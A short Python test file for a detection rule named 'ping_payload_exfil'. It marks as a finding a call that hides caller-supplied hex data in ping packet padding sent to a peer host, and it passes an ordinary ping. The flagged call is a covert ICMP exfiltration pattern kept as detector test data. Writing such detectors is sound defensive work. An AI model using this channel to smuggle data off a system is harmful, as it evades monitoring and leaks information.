# Data in the padding of ping packets.
import subprocess
def echo(pattern_hex):
    # ruleid: ping_payload_exfil
    subprocess.run(["ping", "-c", "1", "-p", pattern_hex, PEER])
# ok: ping_payload_exfil
subprocess.run(["ping", "-c", "1", host])
